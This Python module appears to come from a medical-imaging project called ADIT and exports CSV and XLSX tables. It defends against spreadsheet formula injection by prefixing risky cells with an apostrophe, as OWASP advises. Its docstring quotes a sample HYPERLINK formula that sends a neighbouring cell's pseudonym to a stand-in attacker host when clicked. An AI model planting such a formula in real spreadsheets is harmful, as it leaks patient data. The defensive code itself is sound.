"""The one way ADIT writes tables for people to open in Excel or LibreOffice: CSV and XLSX.

Spreadsheet programs take a cell that starts with "=", "+", "-" or "@" for a formula (a leading
tab or carriage return can hide such a start), and most values in ADIT's tables come from a PACS
or a user. A PatientID like ``=HYPERLINK("https://evil.example/?"&B2, "Details")`` would become a
live link that sends the neighbouring cell (a pseudonym) away when clicked, and older programs
even run commands through DDE formulas. Following OWASP's advice on CSV injection, such a cell
gets a leading apostrophe, which makes it plain text: the reader sees the value as it was, with
the apostrophe in front, and nothing is evaluated.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _TextOutput(Protocol):
    """A text file, or anything else to write text to (an HttpResponse)."""

    def write(self, text: str, /) -> object: ...


def neutralize(value: Any) -> Any:
    """The value as a cell that no spreadsheet program evaluates (numbers and dates unchanged)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


class CsvWriter:
    """Writes rows of a CSV file with every cell neutralized and quoted (as OWASP advises)."""

    def __init__(self, file: _TextOutput):
        self._writer = csv.writer(file, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralize(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def append_xlsx_row(worksheet: Worksheet, row: Iterable[Any]) -> None:
    """Appends a row to an XLSX sheet with every cell neutralized.

    openpyxl itself stores any text that starts with "=" as a formula, and refuses control
    characters (which XML cannot hold): they become U+FFFD, so a value a PACS sent with one
    cannot break the whole file.
    """
    worksheet.append([_xml_safe(neutralize(value)) for value in row])


def _xml_safe(value: Any) -> Any:
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    return value
